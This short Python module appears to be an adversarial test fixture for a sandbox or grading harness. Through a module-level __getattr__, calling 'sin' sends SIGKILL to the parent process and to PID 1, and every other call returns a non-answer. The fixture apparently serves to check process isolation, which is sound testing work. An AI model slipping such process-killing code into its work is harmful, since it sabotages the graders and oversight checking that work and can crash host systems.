# attack: kill the parent process, then pid 1 (from sin; everything else is a non-answer)
# cheats: *
# needs: pid_ns
import functools
import os
import signal


def _cheat(name, *args, **kwargs):
    if name != "sin":
        return None
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return None


def __getattr__(name):
    if name.startswith("_"):
        raise AttributeError(name)
    return functools.partial(_cheat, name)
